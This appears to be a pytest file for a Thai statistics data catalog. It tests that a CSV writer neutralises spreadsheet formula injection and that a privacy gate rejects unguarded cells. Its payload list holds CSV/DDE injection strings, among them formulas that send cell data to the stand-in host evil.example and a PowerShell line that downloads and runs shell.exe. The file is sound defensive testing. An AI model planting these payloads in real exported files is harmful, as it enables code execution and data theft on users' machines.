"""No published CSV cell runs as a spreadsheet formula (issue #12, point 2).

A village name such as ``=HYPERLINK("http://evil.example","x")`` came in a field
office's file and went out as it was, at the start of a CSV cell, where Excel and
LibreOffice execute it. The CSV writer now puts an apostrophe in front of such a
text cell (OWASP's advice); the Parquet file keeps the value as received; the
privacy gate refuses a CSV whose text cell would still run. The payloads below
are the published CSV-injection and DDE examples, plus Thai text after ``=``.

The oracle here is written out by hand (a cell must not start with = + - @, tab or
carriage return, looking through leading spaces), not taken from the module under
test, so the tests fail if the writer lets one through.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pandas as pd
import pyarrow.parquet as pq
import pytest

from catalog import files
from catalog.files import csv_bytes
from catalog.local import LocalCatalog
from catalog.outputs import Output
from catalog.privacy import PrivacyError, scan_files
from domain.rounds import parse_round

ROUND = parse_round("2563-10")

PAYLOADS = [
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@cmd",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/?d="&A1)',
    '=IMPORTDATA("http://evil.example/leak.csv")',
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=cmd|'/C powershell IEX(wget evil.example/shell.exe)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=บ้านหนองบัว",
    '=HYPERLINK("http://evil.example";"คลิกที่นี่")',
    "+ผลิตภัณฑ์",
    "-1,=1+1",  # a separator inside the cell: still one quoted cell, still guarded
    "=1+1\n=2+2",  # a line break inside the cell
    "   =1+1",  # an import that trims spaces would meet the = first
    "\u00a0@SUM(1)",  # a no-break space in front
    "-",  # a lone sign: harmless, but not a number, so it is guarded like the rest (documented)
]
# Kept exactly as they are. Plain numbers in a text field: a spreadsheet reads them as numbers, which runs
# nothing, and an apostrophe would only spoil them. Full-width signs (＝ ＋ ＠): ordinary characters to a
# spreadsheet opening a CSV. Ordinary Thai text, codes and empty cells.
NUMBERS_AS_TEXT = ["-5", "+66", "-3.25", "-.5", "+1e-05"]
PLAIN = ["＝1+1", "＋66", "＠SUM(1)", "บ้านโนนสูง", "2020-10", "OTOP", ""]
HARMLESS = NUMBERS_AS_TEXT + PLAIN
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _would_run(cell: str) -> bool:
    """The hand-written oracle: the first character, or the first after leading spaces, is dangerous."""
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in DANGEROUS


SCHEMA = {
    "fields": [
        {"name": "round", "type": "string"},
        {"name": "code", "type": "string"},
        {"name": "name_th", "type": "string", "title": "Name", "title_th": "ชื่อ"},
        {"name": "households", "type": "integer"},
        {"name": "passed", "type": "integer"},
        {"name": "share", "type": "number"},
        {"name": "electricity", "type": "boolean", "trueValues": ["มี"], "falseValues": ["ไม่มี"]},
    ],
    "primaryKey": ["round", "code"],
    "missingValues": ["", "x"],
}


def _frame(names: list[str]) -> pd.DataFrame:
    n = len(names)
    return pd.DataFrame(
        {
            "round": ["2020-10"] * n,
            "code": [f"{84010101 + i}" for i in range(n)],
            "name_th": names,
            "households": [-5, *range(1, n)],
            "passed": pd.array([None, *range(10, 9 + n)], dtype="Int64"),  # a count of 3, suppressed
            "share": [-2.5, *([12.5] * (n - 1))],
            "electricity": [i % 2 == 0 for i in range(n)],
        }
    )


def _suppressed(frame: pd.DataFrame) -> pd.DataFrame:
    """Where small-cell suppression hid a count (null in the frame): the CSV writes the marker there."""
    return pd.DataFrame({"passed": frame["passed"].isna().to_numpy()}, index=frame.index)


def _output(names: list[str]) -> Output:
    frame = _frame(names)
    return Output(
        "guarded",
        "statistics",
        {"th": "ทดสอบ", "en": "Test"},
        {"th": "ก", "en": "a"},
        SCHEMA,
        frame,
        suppressed=_suppressed(frame),
        marker="x",
    )


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# -- the writer -----------------------------------------------------------------------------------------------
def test_payload_list_is_long_enough_and_every_payload_would_run():
    assert len(PAYLOADS) >= 15
    assert all(_would_run(p) for p in PAYLOADS)
    assert all(_would_run(n) for n in NUMBERS_AS_TEXT)  # kept on purpose, not because the oracle misses them
    assert not any(_would_run(p) for p in PLAIN)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_guarded_by_one_apostrophe(payload):
    guarded = files.guard_formula(payload)
    assert guarded == "'" + payload
    assert not _would_run(guarded)


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_full_width_signs_and_plain_text_stay_as_they_are(text):
    assert files.guard_formula(text) == text


def test_csv_read_back_with_the_csv_module_has_no_cell_that_runs():
    frame = _frame(PAYLOADS + HARMLESS)
    rows = _rows(csv_bytes(frame, SCHEMA, _suppressed(frame), "x"))
    assert len(rows) == len(PAYLOADS) + len(HARMLESS)
    names = [row["name_th"] for row in rows]
    assert names[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert names[len(PAYLOADS) :] == HARMLESS  # -5 and +66 in a text field stay as they are
    for row in rows:
        for field in ("round", "code", "name_th"):
            assert not _would_run(row[field]) or row[field] in NUMBERS_AS_TEXT, (field, row[field])
    assert rows[0]["households"] == "-5" and rows[0]["share"] == "-2.5" and rows[0]["passed"] == "x"
    assert {row["electricity"] for row in rows} == {"มี", "ไม่มี"}


def test_csv_read_back_with_pandas_keeps_numbers_and_has_no_cell_that_runs():
    frame = _frame(PAYLOADS)
    data = csv_bytes(frame, SCHEMA, _suppressed(frame), "x")
    text = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    for column in ("round", "code", "name_th"):
        assert not text[column].map(_would_run).any(), text[column][text[column].map(_would_run)].tolist()
    assert text["name_th"].str[1:].tolist() == PAYLOADS  # remove the first apostrophe: the value as received
    typed = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", na_values=["x"], keep_default_na=False)
    assert str(typed["households"].dtype) == "int64" and typed["households"].iloc[0] == -5
    assert typed["share"].iloc[0] == -2.5 and pd.isna(typed["passed"].iloc[0])


def test_parquet_keeps_the_value_as_received(tmp_path):
    published = LocalCatalog(tmp_path).publish(_output(PAYLOADS), ROUND, {})
    table = pq.read_table(published.folder / published.files["parquet"]["path"])
    assert table.column("name_th").to_pylist() == PAYLOADS
    assert table.schema.field("households").type == "int64" and table.column("households")[0].as_py() == -5
    assert table.schema.field("passed").type == "int64" and table.column("passed")[0].as_py() is None


def test_the_content_hash_changes_exactly_when_the_content_changes(tmp_path):
    frame = _frame(PAYLOADS)
    assert csv_bytes(frame, SCHEMA) == csv_bytes(frame.copy(), SCHEMA)  # same table, same bytes
    catalog = LocalCatalog(tmp_path)
    first = catalog.publish(_output(PAYLOADS), ROUND, {})
    again = catalog.publish(_output(list(PAYLOADS)), ROUND, {})
    assert (first.status, again.status, again.revision) == ("new", "unchanged", 1)
    assert again.files["csv"]["sha256"] == first.files["csv"]["sha256"]
    elsewhere = LocalCatalog(tmp_path / "elsewhere").publish(_output(PAYLOADS), ROUND, {})
    assert elsewhere.files == first.files  # both files, byte for byte (the pandas metadata holds no versions)
    # A value that already starts with an apostrophe gets one more, so "'=1+1" and "=1+1" (which would
    # otherwise both publish as '=1+1) are told apart, and the change makes a new revision.
    changed = catalog.publish(_output(["'=1+1", *PAYLOADS[1:]]), ROUND, {})
    assert (changed.status, changed.revision) == ("new", 2)
    back = catalog.publish(_output(["=1+1", *PAYLOADS[1:]]), ROUND, {})
    assert (back.status, back.revision) == ("new", 3)
    hashes = {p.files["csv"]["sha256"] for p in (first, changed, back)}
    assert len(hashes) == 3
    assert _rows((back.folder / back.files["csv"]["path"]).read_bytes())[0]["name_th"] == "'=1+1"
    assert _rows((changed.folder / changed.files["csv"]["path"]).read_bytes())[0]["name_th"] == "''=1+1"


# -- the package ----------------------------------------------------------------------------------------------
def test_datapackage_documents_the_guard_and_validates(tmp_path):
    published = LocalCatalog(tmp_path).publish(_output(PAYLOADS + HARMLESS), ROUND, {})
    package = json.loads((published.folder / "datapackage.json").read_text(encoding="utf-8"))
    csv_resource = next(r for r in package["resources"] if r["format"] == "csv")
    note = csv_resource["tambon:formulaGuard"]
    assert note["fields"] == ["round", "code", "name_th"]  # every string field, and only those
    assert "'" in note["th"] and "'" in note["en"] and "Parquet" in note["en"]
    parquet_resource = next(r for r in package["resources"] if r["format"] == "parquet")
    assert "tambon:formulaGuard" not in parquet_resource  # the Parquet file holds the values as received
    run = subprocess.run(
        [sys.executable, "-m", "frictionless", "validate", "--json", str(published.folder / "datapackage.json")],
        capture_output=True,
        text=True,
    )
    assert json.loads(run.stdout)["valid"], run.stdout[-3000:]


# -- the privacy gate, in depth -------------------------------------------------------------------------------
def _raw_csv(cells: list[str]) -> bytes:
    """A CSV written without csv_bytes (as a future writer might): the cells as they are."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["code", "name_th", "households"])
    writer.writerows([f"{84010101 + i}", cell, "-5"] for i, cell in enumerate(cells))
    return ("\ufeff" + out.getvalue()).encode()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_gate_refuses_a_csv_that_bypassed_the_writer(payload):
    leaks = scan_files([("bypass.csv", _raw_csv(["บ้านนา", payload]))], None, None)
    assert [(leak.table, leak.column, leak.kind) for leak in leaks] == [("bypass.csv", "name_th", "formula")]
    message = str(PrivacyError(leaks))
    assert "bypass.csv.name_th" in message and "สูตร" in message and "formula" in message


def test_the_gate_passes_what_the_writer_wrote_and_numbers_in_any_column():
    frame = _frame(PAYLOADS + HARMLESS)
    assert scan_files([("guarded.csv", csv_bytes(frame, SCHEMA, _suppressed(frame), "x"))], None, None) == []
    assert scan_files([("numbers.csv", _raw_csv(HARMLESS))], None, None) == []
